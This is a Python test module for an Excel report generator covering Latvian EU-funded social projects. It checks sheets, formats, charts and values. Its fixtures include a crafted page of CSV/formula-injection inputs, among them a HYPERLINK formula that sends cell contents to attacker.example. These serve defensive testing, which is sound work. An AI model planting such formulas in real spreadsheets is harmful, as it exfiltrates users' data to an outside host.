"""The Excel workbook (socreport.excel): read back with openpyxl, and converted by LibreOffice.

The test tables are built by hand from real seed values (RiskChildren LLI-491, OCTOPUS LLI-425,
Valued people LLI-550, "Atver sirdi Zemgalē!" with its amended budget, the EEA family-assistant
project) plus one crafted input page whose text looks like formulas. The derived tables follow the
column contract of socreport.indicators / socreport.checks.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import importlib.util
import io
import math
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import socreport
import socreport.checks
import socreport.indicators
from socreport import excel, files, schemas, texts
from socreport.config import LVL_PER_EUR
from socreport.safety import looks_like_formula
from socreport.tables import Tables

def frame(table: str, rows: list[dict]) -> pd.DataFrame:
    """Rows (dicts; absent columns empty) conformed to the table's schema."""
    t = schemas.get(table)
    data = {c.name: [r.get(c.name) for r in rows] for c in t.columns}
    return schemas.conform(pd.DataFrame(data, columns=t.names), t)


# --------------------------------------------------------------------------------------------
# Seed-based test tables

D0, D1, D2, D4 = "000_a6640382eac6c1fc", "001_ba819a8ab322f87d", "002_17ed4f7446dc636f", "004_49cf07e53512a167"
EVIL = "crafted_formula_page"
S_RISK_TOTAL = ("Projekta kopējais budžets ir 661 092.24 EUR, t.sk. 561 928.39 EUR EUR (85%) Eiropas Reģionālā "
                "attīstības fonda (ERAF) finansējums.")
S_RISK_JELGAVA = ("Jelgavas pilsētas pašvaldības plānotais projekta budžets ir 352 347.97 EUR, t.sk. 299 495.77 EUR (85%) "
                  "ERAF finansējums, 17 617.40 EUR (5%) ir Valsts budžeta dotācija un 35 234.80 EUR (10%) ir "
                  "Jelgavas valstspilsētas pašvaldības līdzfinansējums.")
S_RISK_PERIOD = "Projekta īstenošanas laiks: no 2020.gada 1.jūlija līdz 2022. gada 30.novembrim."
S_RISK_PARTNERS = ("Projekta īstenošanā iesaistīti 2 partneri – Jelgavas valstspilsētas pašvaldība un Šauļu pilsētas "
                   "dome (vadošais partneris).")
S_OCT_TOTAL = "Projekta kopējais finansējums: 705 573,37 EUR (t.sk. ERAF finansējums 599 737,33 EUR)"
S_OCT_PERIOD = "Projekta īstenošanas laiks: 01.06.2020. – 31.05.2022. (24 mēneši)."
S_OCT_PEOPLE = ("Projekta rezultātā jaunie un uzlabotie multifunkcionālie centri un tajos piedāvāties sociālie "
                "pakalpojumi un iekļaušanas pasākumi Latvijas un Lietuvas reģionos kļūs pieejamāki vismaz 706 "
                "cilvēkiem ar funkcionālajiem traucējumiem, senioriem, ģimenēm ar bērniem ar invaliditāti un bērniem, "
                "jauniešiem, kas pakļauti riskam.")
S_VP_TOTAL = "Projekta kopējās izmaksas  705 810,00 euro, t.sk.:"
S_VP_PERIOD = "Projekta ilgums:    18 mēneši (01.09.2020.-30.06.2023.)"
S_VP_USERS = "Abās pašvaldībās ieviesīs virkni jaunu sociālās iekļaušanas pasākumu un sniegs inovatīvus pakalpojumus (800 lietotāju)."
S_VP_STAFF = ("Ar mērķi motivēt un iedvesmot sociālos darbiniekus (90), viņi saņems kvalifikācijas paaugstināšanas "
              "mācības Daugavpilī, vēros labākās sociālās integrācijas prakses Latvijā un Lietuvā, kā arī piedalīsies "
              "studiju vizītē Polijā un Čehijā.")
S_ATV_NEW = ("Projekta kopējās izmaksas ir 9 412 350,00 EUR, no kuriem 85% ir ESF līdzfinansējums (8 000 497,43 EUR) "
             "un 15% Valsts budžeta finansējums (1 411 852,57 EUR).")
S_ATV_OLD = ("Projekta kopējais budžets ir 5 709 424.00 euro, no kura 85% finansē Eiropas Sociālais fonds, 15% ir "
             "Valsts budžeta finansējums.")
S_ATV_PERIOD = "Projekta ieviešanas laiks ir no 2015. gada 1. decembra līdz 2023. gada 31. decembrim."
S_EEA = ("Projekta budžets: 90% (17 489,62 EUR) EEZ finanšu instrumenta finansējums un 10% (1990,00 EUR) Jelgavas "
         "pilsētas pašvaldības līdzfinansējums.")
# Crafted page: scraped text that a spreadsheet would run if it were not stored as text.
EVIL_TITLE = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for the budget")'
EVIL_TEXTS = (EVIL_TITLE, "+1 555 0100 zvaniet", "-2 bērni palika bez vietas", "@SUM(A1:A9)", "\tcilne", "#N/A")

ATV = "9.2.2.1/15/I/001"
EEA = "2014.EEZ/PP/1/MIC/081/043"


def seed_tables() -> Tables:
    docs = frame("documents", [
        {"doc_id": d, "path": f"data/raw/{d}.txt", "sha256": hashlib.sha256(d.encode()).hexdigest(),
         "characters": n, "encoding": "utf-8", "status": "ok"}
        for d, n in ((D0, 3290), (D1, 3757), (D2, 3631), (D4, 74112))
    ] + [{"doc_id": EVIL, "path": f"tests/{EVIL}.html", "sha256": "ab" * 32, "characters": 120,
          "encoding": "windows-1257", "status": "fallback", "message": "-decoded as windows-1257"},
         {"doc_id": "empty_page", "path": "data/raw/empty_page.txt", "status": "skipped",
          "message": "file is empty"}])
    projects = frame("projects", [
        {"project_id": "LLI-491", "code": "LLI-491", "acronym": "RiskChildren",
         "title": "Sociālajam riskam pakļauto bērnu un jauniešu integrācija Jelgavas un Šauļu pilsētas pašvaldībās",
         "programme": "Interreg V-A Latvia–Lithuania 2014–2020", "eu_fund": "ERDF", "total_budget_eur": 661092.24,
         "eu_funding_eur": 561928.39, "eu_share_pct": 85.0, "start_date": "2020-07-01", "end_date": "2022-11-30",
         "source_docs": D0},
        {"project_id": "LLI-425", "code": "LLI-425", "acronym": "OCTOPUS",
         "title": "Daudzfunkcionālo centru - vietējās kopienas sociālās iekļaušanas un izaugsmes veicinātāju attīstība",
         "programme": "Interreg V-A Latvia–Lithuania 2014–2020", "eu_fund": "ERDF", "total_budget_eur": 705573.37,
         "eu_funding_eur": 599737.33, "start_date": "2020-06-01", "end_date": "2022-05-31",
         "duration_months_stated": 24, "beneficiaries": 706, "source_docs": D2},
        {"project_id": "LLI-550", "code": "LLI-550", "acronym": "Valued people",
         "title": "Neaizsargāto grupu sociālā iekļaušana Zarasai-Daugavpils pārrobežu reģionā, attīstot integrētu "
                  "sociālās aprūpes tīklu",
         "programme": "Interreg V-A Latvia–Lithuania 2014–2020", "eu_fund": "ERDF", "total_budget_eur": 705810.00,
         "start_date": "2020-09-01", "end_date": "2023-06-30", "duration_months_stated": 18, "beneficiaries": 800,
         "source_docs": D1},
        {"project_id": ATV, "code": ATV, "title": "Atver sirdi Zemgalē!", "eu_fund": "ESF",
         "total_budget_eur": 9412350.00, "eu_funding_eur": 8000497.43, "eu_share_pct": 85.0,
         "start_date": "2015-12-01", "end_date": "2023-12-31", "source_docs": D4},
        {"project_id": EEA, "code": EEA, "title": "Ģimenes asistenti Jelgavas pilsētā", "eu_fund": "EEA",
         "total_budget_eur": 19479.62, "eu_funding_eur": 17489.62, "eu_share_pct": 90.0, "source_docs": D4},
        {"project_id": "EVIL-1", "title": EVIL_TITLE, "acronym": "@SUM(A1:A9)", "start_date": "2021-05-01",
         "end_date": "2020-01-31", "source_docs": EVIL},
    ])

    def fund(pid, scope, source, amount, pct, doc, sentence, partner=None, derived=False, orig=None, cur="EUR"):
        return {"project_id": pid, "scope": scope, "partner": partner, "source": source, "amount_eur": amount,
                "share_pct": pct, "amount_original": amount if orig is None else orig, "currency": cur,
                "derived": derived, "doc_id": doc, "sentence": sentence}

    funding = frame("funding", [
        fund("LLI-491", "whole", "total", 661092.24, None, D0, S_RISK_TOTAL),
        fund("LLI-491", "whole", "ERDF", 561928.39, 85.0, D0, S_RISK_TOTAL),
        fund("LLI-491", "partner", "total", 352347.97, None, D0, S_RISK_JELGAVA, "Jelgavas pilsētas pašvaldība"),
        fund("LLI-491", "partner", "ERDF", 299495.77, 85.0, D0, S_RISK_JELGAVA, "Jelgavas pilsētas pašvaldība"),
        fund("LLI-491", "partner", "state", 17617.40, 5.0, D0, S_RISK_JELGAVA, "Jelgavas pilsētas pašvaldība"),
        fund("LLI-491", "partner", "municipality", 35234.80, 10.0, D0, S_RISK_JELGAVA, "Jelgavas pilsētas pašvaldība"),
        fund("LLI-425", "whole", "total", 705573.37, None, D2, S_OCT_TOTAL),
        fund("LLI-425", "whole", "ERDF", 599737.33, None, D2, S_OCT_TOTAL),
        fund("LLI-550", "whole", "total", 705810.00, None, D1, S_VP_TOTAL),
        fund(ATV, "whole", "total", 9412350.00, None, D4, S_ATV_NEW),
        fund(ATV, "whole", "ESF", 8000497.43, 85.0, D4, S_ATV_NEW),
        fund(ATV, "whole", "state", 1411852.57, 15.0, D4, S_ATV_NEW),
        fund(EEA, "whole", "EEA", 17489.62, 90.0, D4, S_EEA),
        fund(EEA, "whole", "municipality", 1990.00, 10.0, D4, S_EEA),
        fund(EEA, "whole", "total", 19479.62, None, D4, S_EEA, derived=True),
        fund("EVIL-1", "whole", "other", 2700 / LVL_PER_EUR, None, EVIL, "-2 bērni palika bez vietas, Ls 2700",
             orig=2700.0, cur="LVL"),
    ])
    partners = frame("partners", [
        {"project_id": "LLI-491", "name": "Šauļu pilsētas dome", "role": "lead", "country": "LT", "doc_id": D0,
         "sentence": S_RISK_PARTNERS},
        {"project_id": "LLI-491", "name": "Jelgavas valstspilsētas pašvaldība", "role": "partner", "country": "LV",
         "doc_id": D0, "sentence": S_RISK_PARTNERS},
        {"project_id": "LLI-425", "name": "Zemgales Plānošanas reģions", "role": "lead", "country": "LV", "doc_id": D2,
         "sentence": "Vadošais partneris: Zemgales Plānošanas reģions (LV), www.zemgale.lv"},
        {"project_id": "EVIL-1", "name": "+1 555 0100 zvaniet", "role": "partner", "doc_id": EVIL,
         "sentence": "\tcilne"},
    ])
    beneficiaries = frame("beneficiaries", [
        {"project_id": "LLI-425", "count": 706, "group": "cilvēkiem", "qualifier": "at_least", "kind": "people",
         "headline": True, "doc_id": D2, "sentence": S_OCT_PEOPLE},
        {"project_id": "LLI-550", "count": 800, "group": "lietotāju", "qualifier": "exact", "kind": "people",
         "headline": True, "doc_id": D1, "sentence": S_VP_USERS},
        {"project_id": "LLI-550", "count": 90, "group": "sociālos darbiniekus", "qualifier": "exact", "kind": "staff",
         "headline": False, "doc_id": D1, "sentence": S_VP_STAFF},
    ])
    facts = schemas.empty("facts")

    def src(pid, field, value, doc, sentence, used=True, published=None, article=0):
        return {"project_id": pid, "field": field, "value": value, "doc_id": doc, "sentence": sentence, "used": used,
                "published": published, "article": article}

    sources = frame("sources", [
        src(ATV, "total_budget_eur", "9412350.00", D4, S_ATV_NEW, published="2020-12-08", article=2),
        src("LLI-491", "total_budget_eur", "661092.24", D0, S_RISK_TOTAL),
        src("LLI-491", "eu_funding_eur", "561928.39", D0, S_RISK_TOTAL),
        src("LLI-491", "start_date", "2020-07-01", D0, S_RISK_PERIOD),
        src("LLI-425", "total_budget_eur", "705573.37", D2, S_OCT_TOTAL),
        src("LLI-425", "beneficiaries", "706", D2, S_OCT_PEOPLE),
        src("LLI-425", "start_date", "2020-06-01", D2, S_OCT_PERIOD),
        src("LLI-550", "total_budget_eur", "705810.00", D1, S_VP_TOTAL),
        src("LLI-550", "duration_months_stated", "18", D1, S_VP_PERIOD),
        src(ATV, "total_budget_eur", "5709424.00", D4, S_ATV_OLD, used=False, published="2016-03-01", article=9),
        src(ATV, "end_date", "2023-12-31", D4, S_ATV_PERIOD, published="2020-12-08", article=2),
        src(EEA, "total_budget_eur", "19479.62", D4, S_EEA, published="2016-04-11", article=12),
        src("EVIL-1", "title", EVIL_TITLE, EVIL, EVIL_TITLE),
        src("EVIL-1", "acronym", "@SUM(A1:A9)", EVIL, "+1 555 0100 zvaniet"),
        src("EVIL-1", "start_date", "2021-05-01", EVIL, "-2 bērni palika bez vietas"),
        src("EVIL-1", "code", "#N/A", EVIL, "#N/A", used=False),
    ])
    return Tables(docs, projects, funding, partners, beneficiaries, facts, sources)


def _months(start: str, end: str) -> int:
    s, e = dt.date.fromisoformat(start), dt.date.fromisoformat(end)
    return (e.year - s.year) * 12 + e.month - s.month + 1


def seed_derived(tables: Tables) -> Tables:
    """Derived tables per the contract, computed by hand from the seed values (formulas in comments)."""
    rows = []
    labels = {"LLI-491": "RiskChildren", "LLI-425": "OCTOPUS", "LLI-550": "Valued people", ATV: "Atver sirdi Zemgalē!",
              EEA: "Ģimenes asistenti Jelgavas pilsētā", "EVIL-1": "@SUM(A1:A9)"}
    shares = {ATV: {"state_share": 1411852.57 / 9412350.00}, EEA: {"municipality_share": 1990.00 / 19479.62}}
    for p in tables.projects.itertuples(index=False):
        total = None if pd.isna(p.total_budget_eur) else float(p.total_budget_eur)
        eu = None if pd.isna(p.eu_funding_eur) else float(p.eu_funding_eur)
        start = None if pd.isna(p.start_date) else p.start_date.date().isoformat()
        end = None if pd.isna(p.end_date) else p.end_date.date().isoformat()
        months = _months(start, end) if start and end and end >= start else None
        ben = None if pd.isna(p.beneficiaries) else int(p.beneficiaries)
        cpb = total / ben if total and ben else None  # total ÷ headline beneficiaries
        rows.append({
            "project_id": p.project_id, "label": labels[p.project_id], "eu_fund": p.eu_fund, "programme": p.programme,
            "start_date": start, "end_date": end, "start_year": int(start[:4]) if start else None,
            "total_budget_eur": total, "eu_funding_eur": eu, "eu_share": eu / total if eu and total else None,
            "eu_share_pct_stated": None if pd.isna(p.eu_share_pct) else float(p.eu_share_pct),
            "duration_months": months, "beneficiaries": ben,
            "duration_months_stated": None if pd.isna(p.duration_months_stated) else int(p.duration_months_stated),
            "budget_per_month_eur": total / months if total and months else None,
            "cost_per_beneficiary_eur": cpb,
            "cost_per_beneficiary_per_month_eur": cpb / months if cpb and months else None,
            **shares.get(p.project_id, {}),
        })
    indicators = frame("indicators", rows)
    partner_shares = frame("partner_shares", [
        {"project_id": "LLI-491", "partner": "Jelgavas pilsētas pašvaldība", "part_eur": 352347.97,
         "project_total_eur": 661092.24, "share_of_total": 352347.97 / 661092.24}])
    erdf = [661092.24, 705573.37, 705810.00]
    aggregates = frame("aggregates", [
        {"dimension": "fund", "group": "ERDF", "indicator": "total_budget_eur", "count": 3, "sum": sum(erdf),
         "median": 705573.37, "min": min(erdf), "max": max(erdf)},
        {"dimension": "fund", "group": "ERDF", "indicator": "eu_share", "count": 2, "sum": None,
         "median": 0.85, "min": 561928.39 / 661092.24, "max": 599737.33 / 705573.37},
        {"dimension": "start_year", "group": "2020", "indicator": "duration_months", "count": 3, "sum": 87.0,
         "median": 29.0, "min": 24.0, "max": 34.0},
    ])
    quality = frame("quality", [
        {"project_id": "LLI-550", "check": "duration_mismatch", "severity": "warning", "field": "duration_months_stated",
         "message": "Stated duration 18 months; the dates give 34 months.",
         "message_lv": "Norādītais ilgums 18 mēneši; pēc datumiem 34 mēneši.", "values": "18; 34",
         "evidence": S_VP_PERIOD, "doc_ids": D1},
        {"project_id": ATV, "check": "versions_differ", "severity": "info", "field": "total_budget_eur",
         "message": "Two versions of the total budget: 5709424.00 (2016) and 9412350.00 (2020); the latest is used.",
         "message_lv": "Divas kopējā budžeta versijas; izmantota jaunākā.", "values": "5709424.00; 9412350.00",
         "evidence": S_ATV_OLD + " | " + S_ATV_NEW, "doc_ids": D4},
        {"project_id": EEA, "check": "share_mismatch", "severity": "warning", "field": "eu_share_pct",
         "message": "Stated EU share 90% but 17489.62 of 19479.62 is 89.8%.",
         "message_lv": "Norādītā ES daļa 90%, bet aprēķinātā 89,8%.", "values": "90; 89.78", "evidence": S_EEA,
         "doc_ids": D4},
        {"project_id": "EVIL-1", "check": "end_before_start", "severity": "error", "field": "end_date",
         "message": "End 2020-01-31 is before start 2021-05-01.", "message_lv": "Beigas ir pirms sākuma.",
         "values": "=1+1", "evidence": "-2 bērni palika bez vietas", "doc_ids": EVIL},
    ])
    return tables.with_derived(indicators=indicators, partner_shares=partner_shares, aggregates=aggregates,
                               quality=quality)


@pytest.fixture(scope="module")
def tables() -> Tables:
    return seed_derived(seed_tables()).validate()


@pytest.fixture(scope="module")
def books(tables: Tables, tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("books")
    return {lang: excel.write_workbook(tables, out / f"report_{lang}.xlsx", lang=lang) for lang in excel.LANGS}


@pytest.fixture(scope="module")
def loaded(books) -> dict[str, openpyxl.Workbook]:
    return {lang: openpyxl.load_workbook(path) for lang, path in books.items()}


@pytest.fixture(scope="module")
def wb_en(loaded):
    return loaded["en"]


@pytest.fixture(scope="module")
def wb_lv(loaded):
    return loaded["lv"]


def header_map(ws) -> dict[str, int]:
    return {c.value: c.column for c in ws[1] if c.value is not None}


def column_values(ws, header: str) -> list:
    col = header_map(ws)[header]
    return [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]


def _plain(v):
    if v is None or v is pd.NA or v is pd.NaT:
        return None
    if isinstance(v, float) and math.isnan(v):
        return None
    if isinstance(v, pd.Timestamp):
        return v.to_pydatetime()
    return v


# --------------------------------------------------------------------------------------------
# Sheets, headers, formats, values

SHEETS = {
    "en": ["Summary", "Projects", "Funding", "Partners", "Partner shares", "Beneficiaries", "Aggregates", "Quality",
           "Sources", "Documents", "About"],
    "lv": ["Kopsavilkums", "Projekti", "Finansējums", "Partneri", "Partneru daļas", "Labuma guvēji",
           "Kopsavilkuma rādītāji", "Kvalitāte", "Avoti", "Dokumenti", "Par datiem"],
}


@pytest.mark.parametrize("lang", excel.LANGS)
def test_sheet_names(lang, loaded):
    assert loaded[lang].sheetnames == SHEETS[lang]


@pytest.mark.parametrize("lang,sheet_idx,table", [
    (lang, i, t) for lang in excel.LANGS
    for i, t in ((2, "funding"), (3, "partners"), (5, "beneficiaries"), (8, "sources"), (9, "documents"),
                 (4, "partner_shares"), (6, "aggregates"), (7, "quality"))])
def test_headers_are_schema_labels(lang, sheet_idx, table, loaded):
    ws = loaded[lang].worksheets[sheet_idx]
    hidden = excel.sheets.HIDDEN_COLUMNS.get((table, lang), ())
    names = [n for n in schemas.get(table).names if n not in hidden]
    assert [c.value for c in ws[1]] == [schemas.label(table, n, lang) for n in names]


@pytest.mark.parametrize("lang", excel.LANGS)
def test_projects_headers_join_indicators(lang, loaded):
    ws = loaded[lang].worksheets[1]
    headers = [c.value for c in ws[1]]
    proj = schemas.get("projects").names
    # eu_share_pct_stated repeats projects.eu_share_pct (same label, same values): shown once
    extra = [n for n in schemas.get("indicators").names if n not in proj and n != "eu_share_pct_stated"]
    expected = excel.unique_headers([schemas.label("projects", n, lang) for n in proj]
                                    + [schemas.label("indicators", n, lang) for n in extra])
    assert headers == expected
    assert len(set(headers)) == len(headers)


def test_indicator_column_kept_when_it_differs_from_its_projects_twin(tables):
    ind = tables.indicators.copy()
    ind.loc[ind["project_id"] == "LLI-491", "eu_share_pct_stated"] = 84.0
    frame_, origin = excel.projects_frame(tables.with_derived(indicators=ind))
    assert "eu_share_pct_stated" in frame_.columns and ("eu_share_pct_stated", "indicators") in origin
    headers = [c.header for c in excel.build_data_sheets(tables.with_derived(indicators=ind), "en")[0].columns]
    assert "EU share stated, % (2)" in excel.unique_headers(headers)


def _format_cases():
    return [
        ("Projects", "projects", "total_budget_eur", excel.EUR_FORMAT),
        ("Projects", "projects", "eu_funding_eur", excel.EUR_FORMAT),
        ("Projects", "projects", "eu_share_pct", excel.PERCENT_FORMAT),
        ("Projects", "projects", "start_date", excel.DATE_FORMAT),
        ("Projects", "projects", "end_date", excel.DATE_FORMAT),
        ("Projects", "indicators", "eu_share", excel.SHARE_FORMAT),
        ("Projects", "indicators", "cost_per_beneficiary_eur", excel.EUR_FORMAT),
        ("Funding", "funding", "amount_eur", excel.EUR_FORMAT),
        ("Funding", "funding", "share_pct", excel.PERCENT_FORMAT),
        ("Partner shares", "partner_shares", "share_of_total", excel.SHARE_FORMAT),
        ("Partner shares", "partner_shares", "part_eur", excel.EUR_FORMAT),
        ("Sources", "sources", "published", excel.DATE_FORMAT),
    ]


@pytest.mark.parametrize("sheet,table,col,fmt", _format_cases())
def test_number_formats(sheet, table, col, fmt, wb_en):
    ws = wb_en[sheet]
    cells = [ws.cell(row=r, column=header_map(ws)[schemas.label(table, col)]) for r in range(2, ws.max_row + 1)]
    filled = [c for c in cells if c.value is not None]
    assert filled, f"{sheet}.{col} has no values in the test tables"
    assert {c.number_format for c in filled} == {fmt}
    if fmt == excel.DATE_FORMAT:
        assert all(isinstance(c.value, dt.datetime) for c in filled)
    else:
        assert all(isinstance(c.value, (int, float)) for c in filled)


def test_aggregates_formatted_by_the_indicator_unit(wb_en):
    ws = wb_en["Aggregates"]
    ind = column_values(ws, schemas.label("aggregates", "indicator"))
    col = header_map(ws)[schemas.label("aggregates", "median")]
    fmts = {i: ws.cell(row=r, column=col).number_format for r, i in enumerate(ind, start=2)}
    assert fmts == {"total_budget_eur": excel.EUR_FORMAT, "eu_share": excel.SHARE_FORMAT,
                    "duration_months": excel.AVERAGE_FORMAT}


@pytest.mark.parametrize("sheet,table,order", [
    ("Projects", "projects", None), ("Funding", "funding", None), ("Partners", "partners", None),
    ("Beneficiaries", "beneficiaries", None), ("Documents", "documents", None),
    ("Partner shares", "partner_shares", None), ("Aggregates", "aggregates", None),
    ("Sources", "sources", "project"), ("Quality", "quality", "severity")])
def test_values_equal_the_tables(sheet, table, order, tables, wb_en):
    ws = wb_en[sheet]
    df = tables[table]
    if order == "project":
        df = excel.sources_frame(tables)
    elif order == "severity":
        df = excel.quality_frame(df)
    assert ws.max_row == len(df) + 1
    for name in schemas.get(table).names:
        col = schemas.get(table).column(name)
        got = column_values(ws, col.en)
        want = [_plain(v) for v in df[name].tolist()]
        if col.unit == "%":
            want = [None if v is None else v / 100 for v in want]
        if col.dtype == "Float64":
            assert got == pytest.approx(want, rel=1e-12, abs=1e-12) if None not in want else \
                [g is None for g in got] == [w is None for w in want] and all(
                    g == pytest.approx(w, rel=1e-12) for g, w in zip(got, want) if w is not None), name
        else:
            assert got == want, name


def test_projects_indicator_values(tables, wb_en):
    ws = wb_en["Projects"]
    got = dict(zip(column_values(ws, "Project"), column_values(ws, schemas.label("indicators", "cost_per_beneficiary_eur"))))
    assert got["LLI-425"] == pytest.approx(705573.37 / 706)
    assert got["LLI-550"] == pytest.approx(705810.00 / 800)
    assert got["LLI-491"] is None  # beneficiaries not stated: empty, never zero or infinite
    months = dict(zip(column_values(ws, "Project"), column_values(ws, schemas.label("indicators", "duration_months"))))
    assert months["LLI-425"] == 24 and months["LLI-550"] == 34 and months["LLI-491"] == 29


def test_frozen_header_filter_and_widths(wb_en):
    for ws in wb_en.worksheets[1:-1]:
        assert ws.freeze_panes == ("B2" if ws.title == "Projects" else "A2"), ws.title
        refs = [t.ref for t in ws.tables.values()]
        last = openpyxl.utils.get_column_letter(ws.max_column)
        assert refs == [f"A1:{last}{ws.max_row}"], ws.title
        widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(j)].width for j in range(1, ws.max_column + 1)]
        assert all(excel.MIN_WIDTH <= w <= excel.WRAP_WIDTH + 2 for w in widths), ws.title
    src = wb_en["Sources"]
    sentence = header_map(src)["Sentence"]
    assert src.cell(row=2, column=sentence).alignment.wrap_text


def test_empty_table_gets_autofilter_not_excel_table(tables, tmp_path):
    t = tables.with_derived(quality=schemas.empty("quality"))
    wb = openpyxl.load_workbook(excel.write_workbook(t, tmp_path / "q.xlsx"))
    ws = wb["Quality"]
    assert ws.max_row == 1 and not ws.tables and ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}1"


def test_quality_rows_coloured_by_severity(wb_en):
    ws = wb_en["Quality"]
    sev = column_values(ws, schemas.label("quality", "severity"))
    assert sev == ["error", "warning", "warning", "info"]  # errors first
    for r, s in enumerate(sev, start=2):
        fill, font = excel.SEVERITY_COLOURS[s]
        for c in range(1, ws.max_column + 1):
            assert ws.cell(row=r, column=c).fill.fgColor.rgb.endswith(fill)


def test_project_rows_link_to_their_first_source_row(wb_en):
    proj, src = wb_en["Projects"], wb_en["Sources"]
    src_ids = column_values(src, "Project")
    for r in range(2, proj.max_row + 1):
        cell = proj.cell(row=r, column=1)
        link = cell.hyperlink
        assert link is not None and link.target is None, cell.value
        sheet, ref = link.location.split("!")
        assert sheet == "'Sources'"
        row = int(ref[1:])
        assert src_ids[row - 2] == cell.value
        assert cell.value not in src_ids[: row - 2]  # the first of its rows


def test_latvian_link_points_to_latvian_sheet(wb_lv):
    assert wb_lv["Projekti"]["A2"].hyperlink.location.startswith("'Avoti'!A")


# --------------------------------------------------------------------------------------------
# Summary, charts, About


def test_summary_headlines(wb_en):
    ws = wb_en["Summary"]
    heads = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2) for r in range(6, 16)}
    assert heads["Projects"].value == 6
    assert heads["Input documents read"].value == 5
    total = heads["Total budget, EUR (nominal)"]
    # Each project once in its used version; the amended 5 709 424.00 of "Atver sirdi Zemgalē!" is not added.
    assert total.value == pytest.approx(661092.24 + 705573.37 + 705810.00 + 9412350.00 + 19479.62)
    assert total.number_format == excel.EUR_FORMAT
    assert heads["EU funding, EUR (nominal)"].value == pytest.approx(561928.39 + 599737.33 + 8000497.43 + 17489.62)
    assert heads["Median cost per beneficiary, EUR"].value == pytest.approx((705573.37 / 706 + 705810.00 / 800) / 2)
    assert heads["Findings: errors"].value == 1
    assert heads["Findings: warnings"].value == 2
    assert heads["Findings: for information"].value == 1


def test_summary_has_three_native_charts(wb_en, wb_lv):
    for wb in (wb_en, wb_lv):
        charts = wb.worksheets[0]._charts
        assert [c.tagname for c in charts] == ["barChart"] * 3
        assert [c.grouping for c in charts] == ["clustered", "stacked", "stacked"]
        assert all(c.x_axis.delete is False and c.y_axis.delete is False for c in charts)  # axes shown
        assert all(s.cat.strRef is not None for c in charts for s in c.series)  # project names as categories
    assert wb_en.worksheets[0]._charts[2].y_axis.number_format.formatCode == "0"  # the timeline's year axis


def test_summary_charts_in_memory(tables):
    wb = excel.build_workbook(tables)
    charts = wb.worksheets[0]._charts
    assert len(charts) == 3
    cost, split, timeline = charts
    assert len(cost.series) == 1 and len(split.series) == 4 and len(timeline.series) == 2
    assert split.grouping == "stacked" and split.overlap == 100
    assert timeline.series[0].graphicalProperties.noFill  # invisible start offset
    assert timeline.y_axis.scaling.min == 2015 and timeline.y_axis.scaling.max == 2024


def test_chart_data_beside_charts(tables):
    cost = excel.cost_chart_data(tables)
    assert cost["project_id"].tolist() == ["LLI-425", "LLI-550"]  # largest first
    tl = excel.timeline_chart_data(tables)
    assert tl["project_id"].tolist() == [ATV, "LLI-425", "LLI-491", "LLI-550"]  # EVIL-1 ends before it starts
    octopus = tl.set_index("project_id").loc["LLI-425"]
    assert octopus["days"] == 730
    assert octopus["start_year"] == pytest.approx(2020 + 152 / 366)  # 2020-06-01: day 153 of a leap year
    assert octopus["start_year"] + octopus["years"] == pytest.approx(2022 + 151 / 365)  # up to 2022-06-01
    split = excel.split_chart_data(tables)
    assert set(split["project_id"]) == {"LLI-491", "LLI-425", ATV, EEA}


@pytest.mark.parametrize("day,expected", [
    (dt.date(2020, 1, 1), 2020.0), (dt.date(2020, 7, 1), 2020 + 182 / 366), (dt.date(2021, 12, 31), 2021 + 364 / 365),
    (dt.date(2015, 12, 1), 2015 + 334 / 365)])
def test_decimal_year(day, expected):
    assert excel.decimal_year(day) == pytest.approx(expected)


def test_about_sheet(wb_en, tables):
    ws = wb_en["About"]
    cells = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    text = "\n".join(str(v) for v in cells)
    assert socreport.__version__ in cells
    assert LVL_PER_EUR in cells
    for sha in tables.documents["sha256"].dropna():
        assert sha in cells
    assert "nominal euro" in text and "never added together" in text and "empty cell" in text
    # data dictionary: every column of every data sheet, with its schema description
    entries = {(r[0], r[2]): r[4] for r in ws.iter_rows(values_only=True) if r[0] and r[2]}
    for sheet, table in (("Funding", "funding"), ("Sources", "sources"), ("Quality", "quality"),
                         ("Projects", "projects")):
        for col in schemas.get(table).columns:
            assert entries[(sheet, col.name)] == col.description_en
    for col in schemas.get("indicators").columns:
        if col.name not in schemas.get("projects").names and col.name != "eu_share_pct_stated":
            assert entries[("Projects", col.name)] == col.description_en


def test_about_in_latvian(wb_lv):
    ws = wb_lv["Par datiem"]
    text = "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)
    assert "nominālie eiro" in text and schemas.get("funding").column("amount_eur").description_lv in text


def test_missing_derived_tables_are_omitted_and_explained(tmp_path):
    t = seed_tables()
    path = excel.write_workbook(t, tmp_path / "plain.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Projects", "Funding", "Partners", "Beneficiaries", "Sources", "Documents",
                             "About"]
    about = "\n".join(str(c.value) for row in wb["About"].iter_rows() for c in row if c.value is not None)
    for key in ("indicators", "partner_shares", "aggregates", "quality"):
        assert excel.text(f"about.missing.{key}") in about
    summary = {wb["Summary"].cell(row=r, column=1).value: wb["Summary"].cell(row=r, column=3).value
               for r in range(6, 16)}
    assert summary["Median cost per beneficiary, EUR"] == excel.text("h.not_computed")
    assert len(excel.build_workbook(t).worksheets[0]._charts) == 1  # only the timeline
    assert [c.value for c in wb["Projects"][1]] == [schemas.label("projects", n) for n in schemas.get("projects").names]


def test_with_the_real_indicators_and_checks(tmp_path):
    """The hand-made extraction tables through socreport.indicators and socreport.checks."""
    t = socreport.checks.add_quality(socreport.indicators.add_indicators(seed_tables()))
    wb = openpyxl.load_workbook(excel.write_workbook(t, tmp_path / "real.xlsx"))
    assert wb.sheetnames == SHEETS["en"]
    assert wb["Quality"].max_row == len(t.quality) + 1
    got = dict(zip(column_values(wb["Projects"], "Project"),
                   column_values(wb["Projects"], schemas.label("indicators", "cost_per_beneficiary_eur"))))
    assert got["LLI-425"] == pytest.approx(705573.37 / 706)
    assert len(wb["Summary"]._charts) == 4  # with the chart by region: the partners name municipalities
